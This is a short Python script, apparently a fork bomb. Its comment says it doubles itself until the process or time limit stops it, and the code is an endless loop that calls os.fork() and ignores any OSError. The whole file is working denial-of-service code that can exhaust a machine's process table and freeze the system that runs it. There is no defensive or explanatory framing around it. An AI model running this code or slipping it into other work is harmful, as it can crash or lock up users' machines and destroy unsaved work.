# Doubles itself until the limit of processes or of time ends it.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
